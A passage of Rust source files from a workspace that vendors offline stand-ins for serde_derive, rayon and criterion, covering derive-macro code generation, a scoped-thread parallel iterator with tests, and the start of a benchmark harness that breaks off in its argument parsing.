//! Offline stand-in for `serde_derive`.
//!
//! Implements `#[derive(Serialize)]` and `#[derive(Deserialize)]` against
//! the vendored `serde` stand-in's [`Content`] data model. Because the
//! offline environment has neither `syn` nor `quote`, the item is parsed
//! directly from the `proc_macro` token stream and the impls are emitted as
//! source text.
//!
//! Supported shapes — everything this workspace derives on:
//!
//! * structs with named fields (honoring `#[serde(skip)]`),
//! * tuple and unit structs,
//! * enums with unit, newtype, tuple, and struct variants
//!   (externally tagged, like serde's default).
//!
//! Generics, lifetimes, and other `#[serde(...)]` attributes are rejected
//! with a compile error rather than silently mis-serialized.

use proc_macro::{Delimiter, TokenStream, TokenTree};

/// Derives `serde::Serialize`.
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    expand(input, Direction::Serialize)
}

/// Derives `serde::Deserialize`.
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    expand(input, Direction::Deserialize)
}

#[derive(Clone, Copy, PartialEq)]
enum Direction {
    Serialize,
    Deserialize,
}

fn expand(input: TokenStream, dir: Direction) -> TokenStream {
    match parse_item(input) {
        Ok(item) => {
            let code = match dir {
                Direction::Serialize => gen_serialize(&item),
                Direction::Deserialize => gen_deserialize(&item),
            };
            code.parse()
                .expect("serde_derive: generated code must parse")
        }
        Err(msg) => format!("compile_error!({msg:?});").parse().unwrap(),
    }
}

// ---------------------------------------------------------------------------
// Item model
// ---------------------------------------------------------------------------

struct Item {
    name: String,
    shape: Shape,
}

enum Shape {
    /// Named-field struct: `(field_name, skip)` pairs.
    Struct(Vec<(String, bool)>),
    /// Tuple struct with the given arity.
    Tuple(usize),
    /// Unit struct.
    Unit,
    /// Enum.
    Enum(Vec<Variant>),
}

struct Variant {
    name: String,
    kind: VariantKind,
}

enum VariantKind {
    Unit,
    Tuple(usize),
    Struct(Vec<String>),
}

// ---------------------------------------------------------------------------
// Parsing
// ---------------------------------------------------------------------------

fn parse_item(input: TokenStream) -> Result<Item, String> {
    let tokens: Vec<TokenTree> = input.into_iter().collect();
    let mut i = 0;

    // Skip attributes (`#[...]`, including doc comments) and visibility.
    loop {
        match tokens.get(i) {
            Some(TokenTree::Punct(p)) if p.as_char() == '#' => {
                i += 1; // the `[...]` group
                if matches!(tokens.get(i), Some(TokenTree::Group(_))) {
                    i += 1;
                }
            }
            Some(TokenTree::Ident(id)) if id.to_string() == "pub" => {
                i += 1;
                if let Some(TokenTree::Group(g)) = tokens.get(i) {
                    if g.delimiter() == Delimiter::Parenthesis {
                        i += 1; // pub(crate) etc.
                    }
                }
            }
            _ => break,
        }
    }

    let keyword = match tokens.get(i) {
        Some(TokenTree::Ident(id)) => id.to_string(),
        _ => return Err("serde derive: expected `struct` or `enum`".into()),
    };
    i += 1;
    let name = match tokens.get(i) {
        Some(TokenTree::Ident(id)) => id.to_string(),
        _ => return Err("serde derive: expected type name".into()),
    };
    i += 1;

    if let Some(TokenTree::Punct(p)) = tokens.get(i) {
        if p.as_char() == '<' {
            return Err(format!(
                "serde derive stand-in: generic type `{name}` is not supported"
            ));
        }
    }

    match keyword.as_str() {
        "struct" => match tokens.get(i) {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => Ok(Item {
                name,
                shape: Shape::Struct(parse_named_fields(g.stream())?),
            }),
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => Ok(Item {
                name,
                shape: Shape::Tuple(count_tuple_fields(g.stream())),
            }),
            Some(TokenTree::Punct(p)) if p.as_char() == ';' => Ok(Item {
                name,
                shape: Shape::Unit,
            }),
            _ => Err(format!(
                "serde derive: unsupported struct body for `{name}`"
            )),
        },
        "enum" => match tokens.get(i) {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => Ok(Item {
                name,
                shape: Shape::Enum(parse_variants(g.stream())?),
            }),
            _ => Err(format!("serde derive: expected enum body for `{name}`")),
        },
        other => Err(format!("serde derive: unsupported item kind `{other}`")),
    }
}

/// Consumes leading attributes, returning whether one was `#[serde(skip)]`.
/// Rejects any other `#[serde(...)]` attribute.
fn skip_attrs(tokens: &[TokenTree], i: &mut usize) -> Result<bool, String> {
    let mut skip = false;
    while let Some(TokenTree::Punct(p)) = tokens.get(*i) {
        if p.as_char() != '#' {
            break;
        }
        *i += 1;
        if let Some(TokenTree::Group(g)) = tokens.get(*i) {
            let inner: Vec<TokenTree> = g.stream().into_iter().collect();
            if let Some(TokenTree::Ident(id)) = inner.first() {
                if id.to_string() == "serde" {
                    let arg = match inner.get(1) {
                        Some(TokenTree::Group(args)) => args.stream().to_string(),
                        _ => String::new(),
                    };
                    if arg.trim() == "skip" {
                        skip = true;
                    } else {
                        return Err(format!(
                            "serde derive stand-in: unsupported attribute #[serde({arg})]"
                        ));
                    }
                }
            }
            *i += 1;
        }
    }
    Ok(skip)
}

fn skip_visibility(tokens: &[TokenTree], i: &mut usize) {
    if let Some(TokenTree::Ident(id)) = tokens.get(*i) {
        if id.to_string() == "pub" {
            *i += 1;
            if let Some(TokenTree::Group(g)) = tokens.get(*i) {
                if g.delimiter() == Delimiter::Parenthesis {
                    *i += 1;
                }
            }
        }
    }
}

/// Advances past a type (or any token run) until a comma at angle-bracket
/// depth zero, leaving `i` on the comma or at the end.
fn skip_until_top_level_comma(tokens: &[TokenTree], i: &mut usize) {
    let mut angle_depth: i32 = 0;
    while let Some(tok) = tokens.get(*i) {
        if let TokenTree::Punct(p) = tok {
            match p.as_char() {
                '<' => angle_depth += 1,
                '>' => angle_depth -= 1,
                ',' if angle_depth == 0 => return,
                _ => {}
            }
        }
        *i += 1;
    }
}

fn parse_named_fields(stream: TokenStream) -> Result<Vec<(String, bool)>, String> {
    let tokens: Vec<TokenTree> = stream.into_iter().collect();
    let mut fields = Vec::new();
    let mut i = 0;
    while i < tokens.len() {
        let skip = skip_attrs(&tokens, &mut i)?;
        skip_visibility(&tokens, &mut i);
        let name = match tokens.get(i) {
            Some(TokenTree::Ident(id)) => id.to_string(),
            None => break,
            Some(other) => {
                return Err(format!(
                    "serde derive: expected field name, found `{other}`"
                ))
            }
        };
        i += 1;
        match tokens.get(i) {
            Some(TokenTree::Punct(p)) if p.as_char() == ':' => i += 1,
            _ => return Err(format!("serde derive: expected `:` after field `{name}`")),
        }
        skip_until_top_level_comma(&tokens, &mut i);
        i += 1; // past the comma (or end)
        fields.push((name, skip));
    }
    Ok(fields)
}

fn count_tuple_fields(stream: TokenStream) -> usize {
    let tokens: Vec<TokenTree> = stream.into_iter().collect();
    if tokens.is_empty() {
        return 0;
    }
    let mut count = 0;
    let mut i = 0;
    while i < tokens.len() {
        skip_until_top_level_comma(&tokens, &mut i);
        count += 1;
        i += 1;
    }
    count
}

fn parse_variants(stream: TokenStream) -> Result<Vec<Variant>, String> {
    let tokens: Vec<TokenTree> = stream.into_iter().collect();
    let mut variants = Vec::new();
    let mut i = 0;
    while i < tokens.len() {
        skip_attrs(&tokens, &mut i)?;
        let name = match tokens.get(i) {
            Some(TokenTree::Ident(id)) => id.to_string(),
            None => break,
            Some(other) => {
                return Err(format!(
                    "serde derive: expected variant name, found `{other}`"
                ))
            }
        };
        i += 1;
        let kind = match tokens.get(i) {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                i += 1;
                VariantKind::Tuple(count_tuple_fields(g.stream()))
            }
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                i += 1;
                let fields = parse_named_fields(g.stream())?;
                VariantKind::Struct(fields.into_iter().map(|(n, _)| n).collect())
            }
            _ => VariantKind::Unit,
        };
        match tokens.get(i) {
            Some(TokenTree::Punct(p)) if p.as_char() == ',' => i += 1,
            None => {}
            Some(TokenTree::Punct(p)) if p.as_char() == '=' => {
                return Err("serde derive stand-in: explicit discriminants unsupported".into())
            }
            Some(other) => {
                return Err(format!(
                    "serde derive: unexpected token `{other}` after variant `{name}`"
                ))
            }
        }
        variants.push(Variant { name, kind });
    }
    Ok(variants)
}

// ---------------------------------------------------------------------------
// Code generation
// ---------------------------------------------------------------------------

fn gen_serialize(item: &Item) -> String {
    let name = &item.name;
    let body = match &item.shape {
        Shape::Struct(fields) => {
            let mut s = String::from(
                "let mut __m: ::std::vec::Vec<(::serde::Content, ::serde::Content)> = \
                 ::std::vec::Vec::new();\n",
            );
            for (f, skip) in fields {
                if *skip {
                    continue;
                }
                s.push_str(&format!(
                    "__m.push((::serde::Content::Str({f:?}.to_string()), \
                     ::serde::Serialize::serialize(&self.{f})));\n"
                ));
            }
            s.push_str("::serde::Content::Map(__m)");
            s
        }
        Shape::Tuple(1) => "::serde::Serialize::serialize(&self.0)".to_string(),
        Shape::Tuple(arity) => {
            let items: Vec<String> = (0..*arity)
                .map(|i| format!("::serde::Serialize::serialize(&self.{i})"))
                .collect();
            format!("::serde::Content::Seq(::std::vec![{}])", items.join(", "))
        }
        Shape::Unit => "::serde::Content::Null".to_string(),
        Shape::Enum(variants) => {
            let mut arms = String::new();
            for v in variants {
                let vn = &v.name;
                match &v.kind {
                    VariantKind::Unit => arms.push_str(&format!(
                        "{name}::{vn} => ::serde::Content::Str({vn:?}.to_string()),\n"
                    )),
                    VariantKind::Tuple(arity) => {
                        let binds: Vec<String> = (0..*arity).map(|i| format!("__f{i}")).collect();
                        let payload = if *arity == 1 {
                            "::serde::Serialize::serialize(__f0)".to_string()
                        } else {
                            let items: Vec<String> = binds
                                .iter()
                                .map(|b| format!("::serde::Serialize::serialize({b})"))
                                .collect();
                            format!("::serde::Content::Seq(::std::vec![{}])", items.join(", "))
                        };
                        arms.push_str(&format!(
                            "{name}::{vn}({binds}) => ::serde::Content::Map(::std::vec![\
                             (::serde::Content::Str({vn:?}.to_string()), {payload})]),\n",
                            binds = binds.join(", ")
                        ));
                    }
                    VariantKind::Struct(fields) => {
                        let binds = fields.join(", ");
                        let mut entries = String::new();
                        for f in fields {
                            entries.push_str(&format!(
                                "(::serde::Content::Str({f:?}.to_string()), \
                                 ::serde::Serialize::serialize({f})), "
                            ));
                        }
                        arms.push_str(&format!(
                            "{name}::{vn} {{ {binds} }} => ::serde::Content::Map(::std::vec![\
                             (::serde::Content::Str({vn:?}.to_string()), \
                             ::serde::Content::Map(::std::vec![{entries}]))]),\n"
                        ));
                    }
                }
            }
            format!("match self {{\n{arms}}}")
        }
    };
    format!(
        "#[automatically_derived]\n\
         impl ::serde::Serialize for {name} {{\n\
             fn serialize(&self) -> ::serde::Content {{\n{body}\n}}\n\
         }}\n"
    )
}

fn gen_deserialize(item: &Item) -> String {
    let name = &item.name;
    let body = match &item.shape {
        Shape::Struct(fields) => {
            let mut inits = String::new();
            for (f, skip) in fields {
                if *skip {
                    inits.push_str(&format!("{f}: ::std::default::Default::default(),\n"));
                } else {
                    inits.push_str(&format!("{f}: ::serde::de_field(__map, {f:?})?,\n"));
                }
            }
            format!(
                "let __map = __v.as_map().ok_or_else(|| ::serde::DeError(\
                 ::std::format!(\"expected map for struct {name}, found {{}}\", __v.kind())))?;\n\
                 ::std::result::Result::Ok({name} {{\n{inits}}})"
            )
        }
        Shape::Tuple(1) => {
            format!("::std::result::Result::Ok({name}(::serde::Deserialize::deserialize(__v)?))")
        }
        Shape::Tuple(arity) => {
            let items: Vec<String> = (0..*arity)
                .map(|i| format!("::serde::de_element(__seq, {i})?"))
                .collect();
            format!(
                "let __seq = __v.as_seq().ok_or_else(|| ::serde::DeError(\
                 ::std::format!(\"expected sequence for {name}, found {{}}\", __v.kind())))?;\n\
                 ::std::result::Result::Ok({name}({}))",
                items.join(", ")
            )
        }
        Shape::Unit => format!("::std::result::Result::Ok({name})"),
        Shape::Enum(variants) => {
            let mut arms = String::new();
            for v in variants {
                let vn = &v.name;
                match &v.kind {
                    VariantKind::Unit => arms.push_str(&format!(
                        "{vn:?} => ::std::result::Result::Ok({name}::{vn}),\n"
                    )),
                    VariantKind::Tuple(arity) => {
                        let payload_bind = format!(
                            "let __p = __payload.ok_or_else(|| ::serde::DeError(\
                             ::std::format!(\"variant {name}::{vn} expects data\")))?;"
                        );
                        if *arity == 1 {
                            arms.push_str(&format!(
                                "{vn:?} => {{ {payload_bind} \
                                 ::std::result::Result::Ok({name}::{vn}(\
                                 ::serde::Deserialize::deserialize(__p)?)) }}\n"
                            ));
                        } else {
                            let items: Vec<String> = (0..*arity)
                                .map(|i| format!("::serde::de_element(__seq, {i})?"))
                                .collect();
                            arms.push_str(&format!(
                                "{vn:?} => {{ {payload_bind} \
                                 let __seq = __p.as_seq().ok_or_else(|| ::serde::DeError(\
                                 ::std::format!(\"variant {name}::{vn} expects a sequence\")))?;\n\
                                 ::std::result::Result::Ok({name}::{vn}({})) }}\n",
                                items.join(", ")
                            ));
                        }
                    }
                    VariantKind::Struct(fields) => {
                        let mut inits = String::new();
                        for f in fields {
                            inits.push_str(&format!("{f}: ::serde::de_field(__map, {f:?})?,\n"));
                        }
                        arms.push_str(&format!(
                            "{vn:?} => {{ let __p = __payload.ok_or_else(|| ::serde::DeError(\
                             ::std::format!(\"variant {name}::{vn} expects data\")))?;\n\
                             let __map = __p.as_map().ok_or_else(|| ::serde::DeError(\
                             ::std::format!(\"variant {name}::{vn} expects a map\")))?;\n\
                             ::std::result::Result::Ok({name}::{vn} {{\n{inits}}}) }}\n"
                        ));
                    }
                }
            }
            format!(
                "let (__tag, __payload) = ::serde::de_variant(__v)?;\n\
                 match __tag {{\n{arms}\
                 __other => ::std::result::Result::Err(::serde::DeError(\
                 ::std::format!(\"unknown variant `{{}}` of {name}\", __other))),\n}}"
            )
        }
    };
    format!(
        "#[automatically_derived]\n\
         impl ::serde::Deserialize for {name} {{\n\
             fn deserialize(__v: &::serde::Content) \
             -> ::std::result::Result<Self, ::serde::DeError> {{\n{body}\n}}\n\
         }}\n"
    )
}
