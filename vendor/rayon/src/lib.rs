//! Offline stand-in for `rayon`.
//!
//! The build environment has no access to crates.io, so this workspace
//! vendors a small data-parallelism layer with the subset of rayon's API
//! that the detection pipeline uses: `slice.par_iter()` /
//! `vec.into_par_iter()` followed by `.map(...).collect::<Vec<_>>()` or
//! `.for_each(...)`, plus [`current_num_threads`] and explicit pool
//! sizing via `RAYON_NUM_THREADS` or
//! [`ThreadPoolBuilder`]/[`ThreadPool::install`].
//!
//! Instead of a global work-stealing pool, items are split into
//! `current_num_threads()` contiguous chunks and executed on scoped OS
//! threads ([`std::thread::scope`]), which is a good fit for the pipeline's
//! coarse-grained, similarly-sized session tasks. Two properties the
//! detection code relies on hold by construction:
//!
//! * **Order preservation** — `collect` writes each result into the slot
//!   of its input index, so output order equals input order regardless of
//!   thread interleaving.
//! * **Single-thread degradation** — with one available core (or one item)
//!   the work runs inline on the caller's thread with no spawn overhead.

use std::cell::Cell;
use std::num::NonZeroUsize;
use std::sync::OnceLock;

thread_local! {
    /// Per-thread pool-size override installed by [`ThreadPool::install`]
    /// (0 = no override). Parallel operations size themselves on the
    /// calling thread, so a thread-local is all `install` needs.
    static INSTALLED_THREADS: Cell<usize> = const { Cell::new(0) };
}

/// `RAYON_NUM_THREADS` from the environment (real rayon's global-pool
/// sizing knob), read once; 0 or unparsable means "no override".
fn env_num_threads() -> usize {
    static ENV: OnceLock<usize> = OnceLock::new();
    *ENV.get_or_init(|| {
        std::env::var("RAYON_NUM_THREADS")
            .ok()
            .and_then(|v| v.trim().parse::<usize>().ok())
            .unwrap_or(0)
    })
}

/// Number of worker threads a parallel operation will use: an enclosing
/// [`ThreadPool::install`] wins, then `RAYON_NUM_THREADS`, then the
/// machine's available parallelism.
pub fn current_num_threads() -> usize {
    let installed = INSTALLED_THREADS.with(Cell::get);
    if installed > 0 {
        return installed;
    }
    let env = env_num_threads();
    if env > 0 {
        return env;
    }
    std::thread::available_parallelism()
        .map(NonZeroUsize::get)
        .unwrap_or(1)
}

/// Builder for [`ThreadPool`], mirroring rayon's `ThreadPoolBuilder`.
#[derive(Debug, Default)]
pub struct ThreadPoolBuilder {
    num_threads: usize,
}

impl ThreadPoolBuilder {
    /// Creates a builder with no explicit thread count (the pool will use
    /// [`current_num_threads`]'s environment/machine default).
    pub fn new() -> ThreadPoolBuilder {
        ThreadPoolBuilder::default()
    }

    /// Sets the pool's thread count (0 keeps the default).
    pub fn num_threads(mut self, num_threads: usize) -> ThreadPoolBuilder {
        self.num_threads = num_threads;
        self
    }

    /// Builds the pool. Infallible in this stand-in (threads are scoped
    /// per operation, not reserved up front), but returns `Result` for
    /// rayon API compatibility.
    pub fn build(self) -> Result<ThreadPool, std::convert::Infallible> {
        let threads = if self.num_threads > 0 {
            self.num_threads
        } else {
            current_num_threads()
        };
        Ok(ThreadPool { threads })
    }
}

/// A sized scope for parallel operations. The stand-in has no resident
/// workers: [`ThreadPool::install`] pins [`current_num_threads`] for the
/// duration of the closure, and each parallel operation inside it spawns
/// that many scoped threads.
#[derive(Debug, Clone)]
pub struct ThreadPool {
    threads: usize,
}

impl ThreadPool {
    /// The pool's configured thread count.
    pub fn current_num_threads(&self) -> usize {
        self.threads
    }

    /// Runs `op` with this pool's thread count governing every parallel
    /// operation started from the calling thread.
    pub fn install<R>(&self, op: impl FnOnce() -> R) -> R {
        let prev = INSTALLED_THREADS.with(|c| c.replace(self.threads));
        struct Restore(usize);
        impl Drop for Restore {
            fn drop(&mut self) {
                INSTALLED_THREADS.with(|c| c.set(self.0));
            }
        }
        let _restore = Restore(prev);
        op()
    }
}

/// Order-preserving parallel map over `items`.
fn par_map_slice<'a, T, O, F>(items: &'a [T], f: &F) -> Vec<O>
where
    T: Sync,
    O: Send,
    F: Fn(&'a T) -> O + Sync,
{
    let n = items.len();
    let threads = current_num_threads().min(n);
    if threads <= 1 {
        return items.iter().map(f).collect();
    }
    let mut out: Vec<Option<O>> = Vec::with_capacity(n);
    out.resize_with(n, || None);
    let chunk = n.div_ceil(threads);
    std::thread::scope(|scope| {
        for (out_chunk, in_chunk) in out.chunks_mut(chunk).zip(items.chunks(chunk)) {
            scope.spawn(move || {
                for (slot, item) in out_chunk.iter_mut().zip(in_chunk) {
                    *slot = Some(f(item));
                }
            });
        }
    });
    out.into_iter()
        .map(|slot| slot.expect("parallel worker filled every slot"))
        .collect()
}

/// Parallel iterator over `&[T]`, produced by
/// [`IntoParallelRefIterator::par_iter`].
pub struct ParIter<'a, T> {
    items: &'a [T],
}

impl<'a, T: Sync> ParIter<'a, T> {
    /// Maps each item through `f` in parallel.
    pub fn map<O, F>(self, f: F) -> ParMap<'a, T, F>
    where
        O: Send,
        F: Fn(&'a T) -> O + Sync,
    {
        ParMap {
            items: self.items,
            f,
        }
    }

    /// Runs `f` on each item in parallel.
    pub fn for_each<F>(self, f: F)
    where
        F: Fn(&'a T) + Sync,
    {
        par_map_slice(self.items, &f);
    }

    /// Accepted for API compatibility; chunking is already coarse.
    pub fn with_min_len(self, _len: usize) -> Self {
        self
    }

    /// Number of items.
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// Whether there are no items.
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }
}

/// Lazily mapped parallel iterator; consumed by [`ParMap::collect`].
pub struct ParMap<'a, T, F> {
    items: &'a [T],
    f: F,
}

impl<'a, T, O, F> ParMap<'a, T, F>
where
    T: Sync,
    O: Send,
    F: Fn(&'a T) -> O + Sync,
{
    /// Runs the map in parallel and gathers results in input order.
    pub fn collect<C: FromIterator<O>>(self) -> C {
        par_map_slice(self.items, &self.f).into_iter().collect()
    }
}

/// Conversion to a borrowing parallel iterator (`.par_iter()`).
pub trait IntoParallelRefIterator<'a> {
    /// Borrowed item type.
    type Item: 'a;
    /// Yields a parallel iterator over borrowed items.
    fn par_iter(&'a self) -> ParIter<'a, Self::Item>;
}

impl<'a, T: Sync + 'a> IntoParallelRefIterator<'a> for [T] {
    type Item = T;
    fn par_iter(&'a self) -> ParIter<'a, T> {
        ParIter { items: self }
    }
}

impl<'a, T: Sync + 'a> IntoParallelRefIterator<'a> for Vec<T> {
    type Item = T;
    fn par_iter(&'a self) -> ParIter<'a, T> {
        ParIter { items: self }
    }
}

/// Parallel iterator over owned items, produced by
/// [`IntoParallelIterator::into_par_iter`].
pub struct ParIntoIter<T> {
    items: Vec<T>,
}

impl<T: Send> ParIntoIter<T> {
    /// Maps each owned item through `f` in parallel.
    pub fn map<O, F>(self, f: F) -> ParIntoMap<T, F>
    where
        O: Send,
        F: Fn(T) -> O + Sync,
    {
        ParIntoMap {
            items: self.items,
            f,
        }
    }

    /// Runs `f` on each owned item in parallel.
    pub fn for_each<F>(self, f: F)
    where
        F: Fn(T) + Sync,
    {
        self.map(f).collect::<Vec<()>>();
    }
}

/// Lazily mapped owned parallel iterator; consumed by
/// [`ParIntoMap::collect`].
pub struct ParIntoMap<T, F> {
    items: Vec<T>,
    f: F,
}

impl<T, O, F> ParIntoMap<T, F>
where
    T: Send,
    O: Send,
    F: Fn(T) -> O + Sync,
{
    /// Runs the map in parallel and gathers results in input order.
    pub fn collect<C: FromIterator<O>>(self) -> C {
        let n = self.items.len();
        let threads = current_num_threads().min(n);
        let f = &self.f;
        if threads <= 1 {
            return self.items.into_iter().map(f).collect();
        }
        let mut items: Vec<Option<T>> = self.items.into_iter().map(Some).collect();
        let mut out: Vec<Option<O>> = Vec::with_capacity(n);
        out.resize_with(n, || None);
        let chunk = n.div_ceil(threads);
        std::thread::scope(|scope| {
            for (out_chunk, in_chunk) in out.chunks_mut(chunk).zip(items.chunks_mut(chunk)) {
                scope.spawn(move || {
                    for (slot, item) in out_chunk.iter_mut().zip(in_chunk) {
                        *slot = Some(f(item.take().expect("item consumed once")));
                    }
                });
            }
        });
        out.into_iter()
            .map(|slot| slot.expect("parallel worker filled every slot"))
            .collect()
    }
}

/// Conversion to an owning parallel iterator (`.into_par_iter()`).
pub trait IntoParallelIterator {
    /// Owned item type.
    type Item: Send;
    /// Yields a parallel iterator over owned items.
    fn into_par_iter(self) -> ParIntoIter<Self::Item>;
}

impl<T: Send> IntoParallelIterator for Vec<T> {
    type Item = T;
    fn into_par_iter(self) -> ParIntoIter<T> {
        ParIntoIter { items: self }
    }
}

/// The glob-import surface, mirroring `rayon::prelude::*`.
pub mod prelude {
    pub use crate::{IntoParallelIterator, IntoParallelRefIterator};
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn map_collect_preserves_order() {
        let input: Vec<u64> = (0..1000).collect();
        let doubled: Vec<u64> = input.par_iter().map(|&x| x * 2).collect();
        assert_eq!(doubled, (0..1000).map(|x| x * 2).collect::<Vec<u64>>());
    }

    #[test]
    fn into_par_iter_preserves_order() {
        let input: Vec<String> = (0..257).map(|i| format!("s{i}")).collect();
        let out: Vec<usize> = input.clone().into_par_iter().map(|s| s.len()).collect();
        assert_eq!(out, input.iter().map(|s| s.len()).collect::<Vec<usize>>());
    }

    #[test]
    fn for_each_visits_everything() {
        use std::sync::atomic::{AtomicU64, Ordering};
        let sum = AtomicU64::new(0);
        let input: Vec<u64> = (1..=100).collect();
        input.par_iter().for_each(|&x| {
            sum.fetch_add(x, Ordering::Relaxed);
        });
        assert_eq!(sum.load(Ordering::Relaxed), 5050);
    }

    #[test]
    fn empty_and_single_inputs() {
        let empty: Vec<u32> = Vec::new();
        let out: Vec<u32> = empty.par_iter().map(|&x| x).collect();
        assert!(out.is_empty());
        let one = vec![7u32];
        let out: Vec<u32> = one.par_iter().map(|&x| x + 1).collect();
        assert_eq!(out, vec![8]);
    }

    #[test]
    fn current_num_threads_positive() {
        assert!(super::current_num_threads() >= 1);
    }

    #[test]
    fn install_overrides_thread_count() {
        let pool = super::ThreadPoolBuilder::new()
            .num_threads(3)
            .build()
            .unwrap();
        assert_eq!(pool.current_num_threads(), 3);
        let (inside, after) = {
            let inside = pool.install(super::current_num_threads);
            (inside, super::current_num_threads())
        };
        assert_eq!(inside, 3);
        assert_ne!(after, 0);
        // Parallel work inside install still preserves order with the
        // overridden chunking.
        let doubled: Vec<u64> = pool.install(|| {
            (0..100u64)
                .collect::<Vec<_>>()
                .par_iter()
                .map(|&x| x * 2)
                .collect()
        });
        assert_eq!(doubled, (0..100).map(|x| x * 2).collect::<Vec<u64>>());
    }
}
