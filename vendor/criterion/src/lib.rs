//! Offline stand-in for `criterion`.
//!
//! The build environment has no access to crates.io, so this workspace
//! vendors a small wall-clock benchmark harness exposing the subset of
//! criterion's API that the bench targets use: [`Criterion::bench_function`],
//! [`Criterion::benchmark_group`] with [`BenchmarkGroup::bench_with_input`],
//! [`Bencher::iter`] / [`Bencher::iter_batched`], [`BenchmarkId`],
//! [`BatchSize`], and the [`criterion_group!`] / [`criterion_main!`] macros.
//!
//! Compared to upstream there is no statistical analysis, plotting, or
//! baseline storage: each benchmark is calibrated to a target measurement
//! time, run in timed batches, and reported as the best observed ns/iter
//! (the minimum is the most noise-robust point estimate on shared runners).
//!
//! CLI flags understood (all others are ignored so cargo's pass-through
//! flags never break the harness): a positional benchmark-name filter,
//! `--profile-time <secs>` (sets measurement time per benchmark, used by
//! the CI smoke job), `--measurement-time <secs>`, `--test` (run each
//! routine once, no timing), `--bench`, `--quiet`, `--verbose`, `--noplot`.

use std::fmt;
use std::time::{Duration, Instant};

/// Re-export of the standard optimisation barrier.
pub use std::hint::black_box;

/// How much setup output `iter_batched` keeps alive at once. The stand-in
/// runs one setup per timed call regardless; the variants exist for API
/// compatibility.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BatchSize {
    /// Small per-iteration input.
    SmallInput,
    /// Large per-iteration input.
    LargeInput,
    /// One setup per routine invocation.
    PerIteration,
}

/// Identifier for a benchmark within a group.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    function: Option<String>,
    parameter: Option<String>,
}

impl BenchmarkId {
    /// Id with both a function name and a parameter value.
    pub fn new<P: fmt::Display>(function: impl Into<String>, parameter: P) -> BenchmarkId {
        BenchmarkId {
            function: Some(function.into()),
            parameter: Some(parameter.to_string()),
        }
    }

    /// Id carrying only a parameter value (the group name supplies context).
    pub fn from_parameter<P: fmt::Display>(parameter: P) -> BenchmarkId {
        BenchmarkId {
            function: None,
            parameter: Some(parameter.to_string()),
        }
    }

    fn render(&self, group: &str) -> String {
        match (&self.function, &self.parameter) {
            (Some(f), Some(p)) => format!("{group}/{f}/{p}"),
            (Some(f), None) => format!("{group}/{f}"),
            (None, Some(p)) => format!("{group}/{p}"),
            (None, None) => group.to_string(),
        }
    }
}

impl From<&str> for BenchmarkId {
    fn from(function: &str) -> BenchmarkId {
        BenchmarkId {
            function: Some(function.to_string()),
            parameter: None,
        }
    }
}

impl From<String> for BenchmarkId {
    fn from(function: String) -> BenchmarkId {
        BenchmarkId {
            function: Some(function),
            parameter: None,
        }
    }
}

/// Times one benchmark routine.
pub struct Bencher {
    measurement_time: Duration,
    test_mode: bool,
    /// Best observed ns/iter, filled in by `iter`/`iter_batched`.
    best_ns_per_iter: Option<f64>,
}

impl Bencher {
    /// Times `routine`, calibrating batch size to the measurement window.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        if self.test_mode {
            black_box(routine());
            self.best_ns_per_iter = Some(0.0);
            return;
        }
        // Calibration: grow the batch until one batch takes >= ~1ms, so
        // Instant overhead is negligible relative to the measured work.
        let mut batch: u64 = 1;
        let batch_floor = Duration::from_millis(1);
        loop {
            let start = Instant::now();
            for _ in 0..batch {
                black_box(routine());
            }
            let elapsed = start.elapsed();
            if elapsed >= batch_floor || batch >= 1 << 30 {
                break;
            }
            batch = if elapsed.is_zero() {
                batch.saturating_mul(16)
            } else {
                // Aim directly for the floor with headroom.
                let scale = batch_floor.as_nanos() as f64 / elapsed.as_nanos() as f64;
                (batch as f64 * scale.clamp(2.0, 16.0)) as u64
            };
        }
        let deadline = Instant::now() + self.measurement_time;
        let mut best = f64::INFINITY;
        let mut measured = false;
        while !measured || Instant::now() < deadline {
            let start = Instant::now();
            for _ in 0..batch {
                black_box(routine());
            }
            let ns = start.elapsed().as_nanos() as f64 / batch as f64;
            if ns < best {
                best = ns;
            }
            measured = true;
        }
        self.best_ns_per_iter = Some(best);
    }

    /// Times `routine` over fresh inputs from `setup`; setup is untimed.
    pub fn iter_batched<I, O, S, R>(&mut self, mut setup: S, mut routine: R, _size: BatchSize)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        if self.test_mode {
            black_box(routine(setup()));
            self.best_ns_per_iter = Some(0.0);
            return;
        }
        let deadline = Instant::now() + self.measurement_time;
        let mut best = f64::INFINITY;
        let mut measured = false;
        while !measured || Instant::now() < deadline {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            let ns = start.elapsed().as_nanos() as f64;
            if ns < best {
                best = ns;
            }
            measured = true;
        }
        self.best_ns_per_iter = Some(best);
    }
}

fn format_ns(ns: f64) -> String {
    if ns >= 1e9 {
        format!("{:.3} s", ns / 1e9)
    } else if ns >= 1e6 {
        format!("{:.3} ms", ns / 1e6)
    } else if ns >= 1e3 {
        format!("{:.3} \u{00b5}s", ns / 1e3)
    } else {
        format!("{ns:.1} ns")
    }
}

#[derive(Debug, Clone)]
struct Settings {
    filter: Option<String>,
    measurement_time: Duration,
    test_mode: bool,
}

impl Default for Settings {
    fn default() -> Settings {
        Settings {
            filter: None,
            measurement_time: Duration::from_millis(400),
            test_mode: false,
        }
    }
}

/// The benchmark manager: owns CLI settings, runs and reports benchmarks.
#[derive(Default)]
pub struct Criterion {
    settings: Settings,
}

impl Criterion {
    /// Applies the process CLI arguments (filter, `--profile-time`, ...).
    pub fn configure_from_args(mut self) -> Criterion {
        let mut args = std::env::args().skip(1);
        while let Some(arg) = args.next() {
            match arg.as_str() {
                "--profile-time" | "--measurement-time" | "--warm-up-time" => {
